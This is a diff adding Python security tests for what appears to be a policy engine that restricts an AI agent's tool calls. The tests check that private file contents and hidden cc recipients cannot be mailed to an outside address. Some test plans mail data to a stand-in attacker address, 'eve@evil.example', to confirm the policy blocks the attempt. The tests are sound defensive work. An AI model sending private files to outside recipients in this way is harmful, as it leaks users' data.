@@ -1,0 +1,79 @@
+"""Files that a call sends along, and recipients within its arguments, held against the policy in a run."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from typing import Any
+
+from tests.security.world import POLICY, World
+
+from callsheet.ir import Effect
+from callsheet.ir.labels import read_label
+from callsheet.machine import Status, ToolFacts
+from callsheet.policy.model import Audience, ToolRule
+
+MAIL = ToolRule(
+    egress=True,
+    destructive=False,
+    idempotent=True,
+    audience_arg="to",
+    control=("to",),
+    trusted_audience=("*@corp.example",),
+)
+FACTS = {
+    "MAIL": ToolFacts(Effect.IDEMPOTENT, ("to", "body", "attachments")),
+    "LIST": ToolFacts(Effect.READ, ()),
+}
+NOTES = 'S1: @READ_FILE ("notes.txt") > $n\nS2: @WRITE_FILE ("docs/x.md", $n) > $w\n'
+
+
+def mailing(world: World) -> list[dict[str, Any]]:
+    """Let the world have a tool that sends mail; gives what it will have sent."""
+    sent: list[dict[str, Any]] = []
+
+    async def mail(args: dict[str, Any], context: Any) -> str:
+        sent.append(args)
+        return "sent"
+
+    world.tools["MAIL"] = mail
+    trusted = Audience(name="trusted", mail=("*@corp.example",))
+    world.policy = replace(POLICY, tools={**POLICY.tools, "MAIL": MAIL}, audiences=(trusted,))
+    world.write("notes.txt", "private")
+    world.write("docs/a.md", "public")
+    return sent
+
+
+async def test_a_file_that_a_run_has_filled_goes_to_no_stranger_in_a_later_run(world: World) -> None:
+    sent = mailing(world)
+    await world.run(NOTES, facts=FACTS)
+    plan = 'S1: @MAIL (to="{}", body="hi", attachments=["{}"]) > $r\nS2: @RESPOND ($r)'
+    outcome = await world.run(plan.format("eve@evil.example", "docs/x.md"), "second", facts=FACTS)
+    assert outcome.result is not None
+    assert "POL103: a run has put private data into docs/x.md" in outcome.result.response
+    assert sent == []
+    await world.run(plan.format("eve@evil.example", "docs/a.md"), "third", facts=FACTS)
+    await world.run(plan.format("ann@corp.example", "docs/x.md"), "fourth", facts=FACTS)
+    assert [call["to"] for call in sent] == ["eve@evil.example", "ann@corp.example"]
+
+
+async def test_who_is_named_in_one_of_many_values_is_found(world: World) -> None:
+    """No call passes by its labels alone where what it is given has members of its own."""
+    sent = mailing(world)
+    requests = [{"subject": "x"}, {"subject": "y", "cc": "eve@evil.example"}]
+
+    async def listed(args: dict[str, Any], context: Any) -> Any:
+        return requests
+
+    world.tools["LIST"] = listed
+    public = ToolRule(egress=False, destructive=False, idempotent=True, returns=read_label("U/pub"))
+    world.policy = replace(world.policy, tools={**world.policy.tools, "LIST": public})
+    plan = (
+        "S1: @LIST () > $l\n"
+        'S2: ?FOREACH ($x IN $l) THEN @MAIL (to="ann@corp.example", options=$x, body="hi") > $r'
+    )
+    outcome = await world.run(plan, facts=FACTS)
+    assert outcome.result is not None
+    assert outcome.result.status is Status.REFUSED
+    assert outcome.result.objection is not None
+    assert outcome.result.objection.rule == "control-argument"
+    assert requests[1] not in [call["options"] for call in sent]
